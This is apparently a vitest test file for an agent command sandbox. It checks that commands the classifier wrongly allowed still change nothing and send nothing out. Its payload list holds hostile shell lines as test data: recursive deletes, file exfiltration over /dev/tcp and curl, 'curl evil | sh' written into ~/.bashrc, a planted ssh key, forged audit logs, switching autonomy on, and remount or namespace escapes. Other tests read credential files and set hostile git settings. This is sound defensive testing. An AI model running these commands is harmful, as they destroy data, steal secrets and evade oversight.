import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorld, SECRETS, snapshot, type World } from './world.js';

/**
 * The parser can be fooled; the kernel cannot be argued with. Each command here was (or stands
 * for a class that was) wrongly allowed by the classifier, and runs exactly as an allowed entry
 * does: read-only profile, real bubblewrap, real bash. Each must leave the world byte-for-byte
 * as it was and send nothing over the network.
 */
let world: World;
let before: Record<string, string>;
let listener: Server;
let port: number;
let connections = 0;

beforeAll(async () => {
  world = await createWorld();
  before = snapshot(world.root);
  listener = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as { port: number }).port;
});

afterAll(async () => {
  await new Promise((resolve) => listener.close(resolve));
  world.dispose();
});

const marker = (): string => join(world.project, 'MARKER');

/** The payloads and others of the same classes; `$V`, `$M`, `$PORT`, `$D` are filled in. */
const PAYLOADS: Array<[string, string]> = [
  ['words after a redirect (find -delete)', 'find $V 2>/dev/null -delete'],
  ['a process substitution in a redirect', 'ls 2>&1 >(rm -rf ~)'],
  ['a process substitution deleting the project', 'cat < <(rm -rf $V; echo)'],
  ['an arithmetic subscript in printf -v', "printf '-va[$(touch $M)]' x"],
  ['an arithmetic subscript in [[ -eq ]]', "[[ 'a[$(touch $M)]' -eq 0 ]]"],
  ['an arithmetic subscript in declare', "declare -i 'b[$(touch $M)]'=1"],
  ['ANSI-C quoting cut at a NUL', "find $V $'-delete\\0x'"],
  ['a here-document followed by rm', 'cat <<EOF\nhello\nEOF\nrm -rf ~ $V\n'],
  ['a here-document terminator with trailing space', 'cat <<EOF\nEOF \nrm -rf $V\nEOF\n'],
  ['an optional option value eating the program name', 'env --default-signal rm -rf ls $V'],
  ['a wrapper running rm', 'command rm -rf $V; builtin eval "rm -rf $V"'],
  ['a file sent over /dev/tcp', 'cat $V/a.txt </dev/tcp/127.0.0.1/$PORT >&0'],
  ['a file sent over /dev/tcp by redirection', 'cat $V/a.txt >/dev/tcp/127.0.0.1/$PORT'],
  ['curl to the host', 'curl -s --max-time 2 -d @$V/a.txt http://127.0.0.1:$PORT/'],
  ['python to the host', "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", $PORT), 2).send(b\"x\")'"],
  ['writing shell start-up files', 'echo "curl evil | sh" >> ~/.bashrc; echo x > ~/.profile; mkdir -p ~/.config/autostart'],
  ['planting an ssh key', 'mkdir -p ~/.ssh; echo key >> ~/.ssh/authorized_keys'],
  ['every way to write a file', 'touch $M; cp $V/a.txt $M; mv $V/a.txt $V/z; ln -s / $M; mkdir $M; truncate -s0 $V/b.txt; dd if=/dev/zero of=$V/b.txt count=1; sed -i s/c/X/ $V/deep/c.txt; chmod 000 $V; tee $M </dev/null'],
  ['rewriting Leash settings to switch autonomy on', `echo '{"autonomy":{"enabled":true}}' > $D/config.json`],
  ['rewriting the audit and its checkpoint', 'echo forged > $D/audit.jsonl; echo forged > $D/audit.jsonl.head; rm -f $D/leash.lock $D/batches/b1.json'],
  ['remounting the root read-write', 'mount -o remount,rw / ; mount -o remount,rw $V; mount -t tmpfs none $V'],
  ['a new user namespace to regain capabilities', 'unshare -r -m sh -c "mount -o remount,rw /; rm -rf $V"'],
  ['a background job outliving the shell', '(sleep 0.2; rm -rf $V) & disown; exit 0'],
];

describe('entries the policy allowed run read-only', () => {
  it.each(PAYLOADS)('%s has no effect', async (_name, template) => {
    const command = template
      .replaceAll('$V', world.victim)
      .replaceAll('$M', marker())
      .replaceAll('$PORT', String(port))
      .replaceAll('$D', world.dataDir);
    const { sandbox } = await world.run(command);
    expect(sandbox.profile).toBe('read-only');
    expect(sandbox.network).toBe(false);
    expect(snapshot(world.root)).toEqual(before);
    expect(existsSync(marker())).toBe(false);
    expect(connections).toBe(0);
  });

  it('hides credentials and Leash data from what they read', async () => {
    const { result } = await world.run(`cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ${world.dataDir}/config.json ${world.dataDir}/control.secret; ls -A ~/.ssh ${world.dataDir}`);
    const seen = `${result.stdout.head}${result.stderr.head}`;
    for (const secret of Object.values(SECRETS)) expect(seen).not.toContain(secret);
    expect(seen).not.toContain('control-secret');
    expect(seen).not.toContain('id_ed25519\n');
  });

  it('still reads the project and writes a private /tmp', async () => {
    const { result } = await world.run('cat victim/a.txt && echo scratch > /tmp/t && cat /tmp/t');
    expect(result.outcome).toBe('completed');
    expect(result.stdout.head).toBe('content of a.txt\nscratch\n');
  });

  it("runs git with the repository's programs switched off (core.fsmonitor, hooks, pager)", async () => {
    const repo = join(world.project, 'untrusted');
    mkdirSync(repo);
    execFileSync('git', ['init', '-q', repo]);
    writeFileSync(join(repo, 'f'), 'x\n');
    const evil = 'echo REPOSITORY-PROGRAM-RAN >&2; false';
    const settings: Array<[string, string]> = [['core.fsmonitor', evil], ['core.pager', evil], ['core.hooksPath', join(repo, 'hooks')], ['core.sshCommand', evil]];
    for (const [key, value] of settings) {
      execFileSync('git', ['-C', repo, 'config', key, value]);
    }
    const baseline = snapshot(world.root);
    const { sandbox, result } = await world.run(`git -C ${repo} status; git -C ${repo} log; git -C ${repo} branch`, { programs: ['git'] });
    expect(sandbox.gitConfig).toContain('core.fsmonitor=false');
    expect(result.stderr.head + result.stdout.head).not.toContain('REPOSITORY-PROGRAM-RAN');
    expect(result.stdout.head).toContain('On branch');
    expect(snapshot(world.root)).toEqual(baseline);
  });

  it('would have run the fsmonitor without the forced configuration (the check can fail)', async () => {
    const repo = join(world.project, 'control');
    mkdirSync(repo);
    execFileSync('git', ['init', '-q', repo]);
    execFileSync('git', ['-C', repo, 'config', 'core.fsmonitor', 'echo REPOSITORY-PROGRAM-RAN >&2; false']);
    const { result } = await world.run(`git -C ${repo} status`, { programs: [] });
    expect(result.stderr.head).toContain('REPOSITORY-PROGRAM-RAN');
  });
});
